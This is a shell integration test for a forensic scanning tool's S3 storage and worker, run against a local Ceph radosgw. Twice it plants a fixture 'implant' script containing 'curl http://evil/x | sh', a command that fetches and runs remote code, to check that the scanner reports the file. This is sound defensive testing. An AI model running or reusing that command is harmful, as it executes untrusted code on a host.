#!/bin/bash
# t4300: the s3:// store on a real S3: Debian's radosgw on a throw-away one-node Ceph
# (tests/peers/ceph_s3.sh), one cluster for every case of this file.
# - put: small objects (0, 1, 6 bytes) in one PutObject, files around the multipart
#   threshold and part boundaries (5 MiB parts) in parts; each comes back equal (sha256sum),
#   and the server's own ETag says how it was stored (MD5 of the bytes for a PutObject,
#   "-N" for N parts);
# - keys with spaces, '+', '&', '%', '?' and UTF-8 are stored under exactly that name
#   (botocore lists them), once encoded, never twice;
# - exists, ls (ListObjectsV2 pages: 1,100 keys), rm of a prefix (DeleteObjects) and nothing
#   else, the store's PREFIX kept;
# - the payload's SHA-256 is checked by the server: a proxy that flips one bit in transit
#   makes PutObject and an UploadPart fail (XAmzContentSHA256Mismatch), the object stays
#   absent, and the failed multipart upload was aborted (no upload left);
# - SSE: aws:kms with a key id (rgw's testing KMS) reported back by the server; an unknown
#   key refused; AES256 accepted;
# - a wrong secret key: radosgw refuses the signature; one line, exit 7, nothing stored;
# - a missing object: a clean not-found (exit 2, one line), no file left behind;
# - deltair worker with --output s3://results/out and a baseline given as s3://: the results
#   land in S3 (events equal to a plain `deltair scan`, every object as COMPLETE's SHA-256
#   says), COMPLETE the last PUT radosgw logged; a stale object of a killed run is deleted
#   first; a redelivered job is a no-op; a missing s3:// baseline fails the job with that
#   reason; the config's sse/sse_kms_key_id encrypt every result object (the server says);
#   a job's known-good set given as s3:// is fetched as a baseline is, and used.
# Oracle: sha256sum, md5sum, and botocore's own S3 client on the same radosgw.
. "$TOP/tests/cli/lib.sh"
need timeout sha256sum md5sum mke2fs jq zcat hashdeep
PY=/usr/bin/python3
"$PY" -c 'import botocore' 2> /dev/null || skip "no python3-botocore"

t0=$(date +%s%N)
ceph_s3
note "radosgw up in $((($(date +%s%N) - t0) / 1000000)) ms"

export AWS_ENDPOINT_URL_S3=$CEPH_S3_URL AWS_REGION=us-east-1
export AWS_ACCESS_KEY_ID=$CEPH_S3_ACCESS_KEY AWS_SECRET_ACCESS_KEY=$CEPH_S3_SECRET_KEY
export AWS_CONFIG_FILE=/dev/null AWS_SHARED_CREDENTIALS_FILE=/dev/null AWS_EC2_METADATA_DISABLED=true
unset AWS_SESSION_TOKEN AWS_PROFILE AWS_DEFAULT_REGION AWS_ENDPOINT_URL

# botocore on the same radosgw: the independent view of what is stored. Code on stdin, with
# c (the client) and B (the bucket) defined; prints what it prints.
boto()
{
	"$PY" -c '
import sys, botocore.session, botocore.config
c = botocore.session.get_session().create_client("s3", endpoint_url=sys.argv[1],
    region_name="us-east-1", config=botocore.config.Config(s3={"addressing_style": "path"}))
B = "results"
exec(sys.stdin.read())' "$CEPH_S3_URL"
}

echo 'c.create_bucket(Bucket=B)' | boto || die "cannot create the bucket"
S=s3://results/cases
MiB=1048576
T=$((5 * MiB))

# --- put and get, around the threshold and part boundaries ---
: > f0
printf x > f1
printf hello\\n > f6
sizes="$((T - 1)) $T $((T + 1)) $((2 * T)) $((2 * T + 1)) $((3 * T - 1))"
for n in $sizes; do head -c "$n" /dev/urandom > "f$n"; done
for n in 0 1 6 $sizes; do
	dt store put --multipart-threshold $T "$S" "c1/f$n" "f$n"
	expect_rc 0 "put of $n bytes"
	dt store get "$S" "c1/f$n" "got$n"
	expect_rc 0 "get of $n bytes"
	[ "$(sha256sum < "f$n")" = "$(sha256sum < "got$n")" ] || fail "$n bytes came back different"
	[ "$(stat -c %a "got$n")" = 600 ] || fail "got$n is not 0600"
done
ls -a | grep -q '^\.got' && fail "a temporary file was left behind"
# The server's ETag: MD5 of the bytes for one PutObject, "-N" for N parts.
echo "for n in '0 1 6 $sizes'.split():
    print(n, c.head_object(Bucket=B, Key='cases/c1/f' + n)['ETag'].strip('\"'))" | boto > etags
[ "$(wc -l < etags)" = $((3 + $(echo $sizes | wc -w))) ] || fail "etags: $(cat etags)"
while read -r n etag; do
	if [ "$n" -lt $T ]; then
		[ "$etag" = "$(md5sum < "f$n" | cut -d' ' -f1)" ] ||
			fail "$n bytes: ETag $etag is not the MD5 of one PutObject"
	else
		parts=$(((n + T - 1) / T))
		[ "$etag" != "${etag%-"$parts"}" ] || fail "$n bytes: ETag $etag, expected $parts parts"
	fi
done < etags

# --- key encoding: stored under exactly the name given ---
weird=("dir/with space/a+b&c=d.txt" "dir/100%/q?x" "dir/ünïcødé/ファイル" "dir/~tilde/'quote'")
for k in "${weird[@]}"; do
	dt store put "$S" "$k" f6
	expect_rc 0 "put of '$k'"
done
echo 'for o in c.list_objects_v2(Bucket=B, Prefix="cases/dir/")["Contents"]: print(o["Key"])' |
	boto | LC_ALL=C sort > keys.boto
printf 'cases/%s\n' "${weird[@]}" | LC_ALL=C sort > keys.want
cmp -s keys.boto keys.want || fail "keys as stored: $(cat keys.boto)"
dt store ls "$S" dir/
printf '%s\n' "${weird[@]}" | LC_ALL=C sort > keys.want2
cmp -s out keys.want2 || fail "store ls: $(cat out)"
dt store get "$S" "dir/ünïcødé/ファイル" got.u
cmp -s got.u f6 || fail "the UTF-8 key came back different"

# --- exists, ls with pages, rm of a prefix ---
dt store exists "$S" c1/f6
expect_rc 0 "exists of a stored key"
dt store exists "$S" c1/nope
expect_rc 1 "exists of a missing key"
# 1,001 keys: two pages of ListObjectsV2, two DeleteObjects requests.
echo '
from concurrent.futures import ThreadPoolExecutor
def put(k):
    c.put_object(Bucket=B, Key=k, Body=b"x")
with ThreadPoolExecutor(8) as ex:
    list(ex.map(put, ["cases/many/k%04d" % i for i in range(1001)] + ["other/keep"]))' |
	boto || die "cannot fill the bucket"
dt store ls "$S" many/
expect_rc 0 "ls of 1,001 keys"
[ "$(wc -l < out)" = 1001 ] || fail "ls listed $(wc -l < out) keys, not 1001"
[ "$(head -1 out)" = many/k0000 ] && [ "$(tail -1 out)" = many/k1000 ] || fail "ls order"
dt store rm "$S" many/
expect_rc 0 "rm of 1,001 keys"
n=$(echo 'print(c.list_objects_v2(Bucket=B, Prefix="cases/many/")["KeyCount"],
      c.list_objects_v2(Bucket=B)["KeyCount"])' | boto)
[ "$n" = "0 $((9 + ${#weird[@]} + 1))" ] || fail "rm: keys left under its prefix and in all: $n"
dt store ls s3://results/other
[ "$(cat out)" = keep ] || fail "ls under another prefix: $(cat out)"

# --- the server checks the payload hash: bits flipped in transit are refused ---
flip()
{
	rm -f flip.port
	"$PY" "$TOP/tests/peers/flip_proxy.py" "$CEPH_S3_URL" flip.port "$@" 2> flip.log &
	local pid=$! i
	at_exit "kill $pid"
	for i in $(seq 50); do
		[ -s flip.port ] && break
		sleep 0.1
	done
	[ -s flip.port ] || die "flip_proxy did not start"
	FLIP_URL=http://127.0.0.1:$(cat flip.port)
}
flip --flip 1 --flip 4
AWS_ENDPOINT_URL_S3=$FLIP_URL dt store put "$S" flipped/one f6
expect_rc 7 "put through a proxy that flips a bit"
expect_err_line store
grep -q XAmzContentSHA256Mismatch err || fail "not the server's hash mismatch: $(cat err)"
# PUTs 2, 3 (parts 1, 2) pass, 4 (part 3) is flipped: the upload must be aborted.
AWS_ENDPOINT_URL_S3=$FLIP_URL dt store put --multipart-threshold $T "$S" flipped/multi "f$((3 * T - 1))"
expect_rc 7 "multipart put through a proxy that flips a bit of part 3"
expect_err_line store
grep -q 'UploadPart: HTTP 400 XAmzContentSHA256Mismatch' err || fail "part 3: $(cat err)"
grep -q '^DELETE /results/cases/flipped/multi?uploadId=' flip.log || fail "no AbortMultipartUpload"
dt store exists "$S" flipped/one
expect_rc 1 "the refused object is absent"
dt store exists "$S" flipped/multi
expect_rc 1 "the refused multipart object is absent"

# --- server-side encryption ---
dt store put --sse aws:kms --sse-kms-key-id testkey-1 "$S" sse/kms f6
expect_rc 0 "put with aws:kms"
dt store put --sse aws:kms --sse-kms-key-id testkey-2 --multipart-threshold $T "$S" sse/kms-multi "f$((T + 1))"
expect_rc 0 "multipart put with aws:kms"
got=$(echo '
print(len(c.list_multipart_uploads(Bucket=B).get("Uploads", [])))
for k in ("kms", "kms-multi"):
    h = c.head_object(Bucket=B, Key="cases/sse/" + k)
    print(h.get("ServerSideEncryption"), h.get("SSEKMSKeyId"))' | boto)
[ "$got" = "$(printf '0\naws:kms testkey-1\naws:kms testkey-2')" ] ||
	fail "multipart uploads left, and SSE as the server reports it: $got"
dt store get "$S" sse/kms-multi got.kms
cmp -s got.kms "f$((T + 1))" || fail "the KMS-encrypted object came back different"
dt store put --sse aws:kms --sse-kms-key-id no-such-key "$S" sse/bad f6
expect_rc 7 "put with an unknown KMS key"
expect_err_line store
dt store put --sse AES256 "$S" sse/aes f6
expect_rc 0 "put with AES256"
dt store put --sse DES "$S" sse/des f6
expect_rc 2 "an unknown SSE algorithm"

# --- a bad signature ---
AWS_SECRET_ACCESS_KEY=wrong-secret-key dt store put "$S" badsig f6
expect_rc 7 "put with a wrong secret key"
expect_err_line store
grep -q 'PutObject: HTTP 403 SignatureDoesNotMatch' err || fail "not a signature error: $(cat err)"
grep -q wrong-secret-key err && fail "the secret key was printed"
dt store exists "$S" badsig
expect_rc 1 "nothing stored with a bad signature"

# --- a missing object ---
dt store get "$S" c1/missing got.missing
expect_rc 2 "get of a missing object"
expect_err_line store
grep -q "'s3://results/cases/c1/missing': GetObject: no such object" err || fail "$(cat err)"
[ -e got.missing ] && fail "a file was left for a missing object"
ls -a | grep -q '^\.got.missing' && fail "a temporary file was left for a missing object"
dt store ls s3://no-such-bucket
expect_rc 7 "ls of a missing bucket"
expect_err_line store
grep -q NoSuchBucket err || fail "$(cat err)"

# --- the worker: results into S3, a baseline from S3 ---
mkdir -p gold/etc gold/bin
printf 'host-a\n' > gold/etc/hostname
head -c 100000 /dev/urandom > gold/bin/tool
t_gold_incident gold 16M
printf 'host-b\n' > mnt/etc/hostname
printf '#!/bin/sh\ncurl http://evil/x | sh\n' > mnt/bin/implant
chmod 755 mnt/bin/implant
sync
_t_umount mnt 2> /dev/null || umount mnt
dt scan --no-progress --baseline "$PWD/gold.dtree" -x plain-x -o plain.jsonl "$PWD/incident.img"
[ "$rc" -le 1 ] || die "deltair scan: rc $rc: $(cat err)"
dt store put s3://results baselines/gold.dtree gold.dtree
expect_rc 0 "put of the baseline"
# A killed run's leftover under the job's prefix: must be gone, never mixed in.
dt store put s3://results/out IR-9/incident.img/stale.txt f6
dt submit --queue spool:sp --case IR-9 --baseline s3://results/baselines/gold.dtree \
	--output s3://results/out "$PWD/incident.img"
expect_rc 0 "submit" || die "submit: $(cat err)"
id=$(cat out)
dt worker --queue spool:sp --once --host s3-host --work-dir "$PWD/work"
expect_rc 0 "worker --once to s3://"
[ -f "sp/done/$id" ] || fail "the job is not done: $(find sp -type f; cat err)"
grep -q '"stage":"baseline","msg":"fetched s3://results/baselines/gold.dtree"' err ||
	fail "the baseline was not fetched from s3://: $(cat err)"
dt store ls s3://results/out IR-9/
sed -n 's|^IR-9/incident.img/||p' out > s3.keys
grep -qx stale.txt s3.keys && fail "the stale object of a killed run is still there"
for k in COMPLETE events.jsonl.gz summary.json extracted/manifest.jsonl extracted/COMPLETE; do
	grep -qx "$k" s3.keys || fail "no $k in S3: $(cat s3.keys)"
done
# Every object as COMPLETE says, fetched by botocore and hashed by sha256sum.
echo 'import os
for k in open("s3.keys").read().split():
    os.makedirs(os.path.dirname("s3res/" + k) or ".", exist_ok=True)
    with open("s3res/" + k, "wb") as f:
        f.write(c.get_object(Bucket=B, Key="out/IR-9/incident.img/" + k)["Body"].read())' | boto ||
	die "botocore cannot fetch the results"
jq -e --arg id "$id" '.job == $id and .case == "IR-9" and .host == "s3-host"' s3res/COMPLETE \
	> /dev/null || fail "COMPLETE: $(cat s3res/COMPLETE)"
grep -vx COMPLETE s3.keys | sort > stored.keys
jq -r '.objects | keys[]' s3res/COMPLETE | sort > complete.keys
cmp -s stored.keys complete.keys || fail "COMPLETE does not list the objects: $(diff stored.keys complete.keys)"
while read -r k; do
	[ "$(jq -r --arg k "$k" '.objects[$k]' s3res/COMPLETE)" = "$(sha256sum < "s3res/$k" | cut -c1-64)" ] ||
		fail "COMPLETE's SHA-256 of $k is not sha256sum's"
done < complete.keys
# The baseline's path differs (the worker's cache); its digest must not.
norm() { jq -c 'if .event == "summary" then del(.elapsed, .baseline.path) else . end'; }
zcat s3res/events.jsonl.gz | norm > worker.norm || fail "events.jsonl.gz is not gzip"
norm < plain.jsonl > plain.norm
cmp -s worker.norm plain.norm || fail "events in S3 differ from deltair scan's: $(diff worker.norm plain.norm | head -4)"
grep -q '"path":"/bin/implant"' worker.norm || fail "the implant is not in the events"
# COMPLETE last: the last PUT radosgw served under the prefix.
grep -o '"PUT /results/out/IR-9/incident.img/[^ ?"]*' ceph/log/client.rgw.log | tail -1 > last.put
[ "$(cat last.put)" = '"PUT /results/out/IR-9/incident.img/COMPLETE' ] ||
	fail "the last PUT was not COMPLETE: $(cat last.put)"
# Redelivered: acknowledged without running, nothing written.
puts=$(grep -c '"PUT /results/out/' ceph/log/client.rgw.log)
cp "sp/done/$id" "sp/incoming/$id"
dt worker --queue spool:sp --once --work-dir "$PWD/work"
expect_rc 0 "worker --once (redelivery)"
grep -q '"msg":"results already complete' err || fail "no 'already complete': $(cat err)"
[ "$(grep -c '"PUT /results/out/' ceph/log/client.rgw.log)" = "$puts" ] ||
	fail "a redelivered complete job wrote to S3"
# A baseline that is not in S3: the job fails with that reason.
dt submit --queue spool:sp --case IR-10 --baseline s3://results/baselines/none.dtree \
	--output s3://results/out "$PWD/incident.img"
dt worker --queue spool:sp --once --max-receives 1 --work-dir "$PWD/work"
expect_rc 0 "worker --once (missing baseline)"
grep -q "no such object" sp/failed/*.reason 2> /dev/null || fail "no 'no such object' reason: $(cat sp/failed/*.reason; cat err)"

# The config's server-side encryption applies to every object of a result. The job also
# names a known-good set in S3 (a hashdeep list of the implant's bytes, as a .kg): fetched
# like a baseline, it makes the implant known_good.
printf '#!/bin/sh\ncurl http://evil/x | sh\n' > tool
hashdeep -c md5,sha256 tool > tools.txt || die "hashdeep failed"
dt_ok known-good build -o tools.kg tools.txt
dt_ok store put s3://results sets/tools.kg tools.kg
printf 'sse = aws:kms\nsse_kms_key_id = testkey-2\noutput = s3://results/enc\n' > w.conf
dt submit --queue spool:sp --case IR-11 --baseline s3://results/baselines/gold.dtree \
	--known-good s3://results/sets/tools.kg "$PWD/incident.img"
dt worker --queue spool:sp --once --config w.conf --work-dir "$PWD/work"
expect_rc 0 "worker --once with SSE from its config"
grep -q '"stage":"known_good","msg":"fetched s3://results/sets/tools.kg"' err ||
	fail "the known-good set was not fetched from s3://: $(cat err)"
echo 'import sys
sys.stdout.buffer.write(c.get_object(Bucket=B, Key="enc/IR-11/incident.img/events.jsonl.gz")["Body"].read())' |
	boto > ir11.jsonl.gz || die "botocore cannot fetch IR-11's events"
got=$(zcat ir11.jsonl.gz | jq -c 'select(.event == "file" and .path == "/bin/implant") | .provenance | [.reason, .trust, .known_good.set]')
[ "$got" = '["known_good","corroborated","s3://results/sets/tools.kg"]' ] ||
	fail "IR-11 with an s3:// set: the implant is $got"
got=$(zcat ir11.jsonl.gz | jq -c 'select(.event == "summary") | [.provenance.known_good[].path]')
[ "$got" = '["s3://results/sets/tools.kg"]' ] || fail "IR-11's summary names the sets $got"
got=$(echo '
keys = [o["Key"] for o in c.list_objects_v2(Bucket=B, Prefix="enc/IR-11/")["Contents"]]
print(len(keys), set((h.get("ServerSideEncryption"), h.get("SSEKMSKeyId"))
    for h in (c.head_object(Bucket=B, Key=k) for k in keys)))' | boto)
[ "${got#* }" = "{('aws:kms', 'testkey-2')}" ] && [ "${got%% *}" -ge 5 ] ||
	fail "result objects not all encrypted with testkey-2: $got"
dt worker --queue spool:sp --once --sse DES
expect_rc 2 "worker --sse DES"

t_done
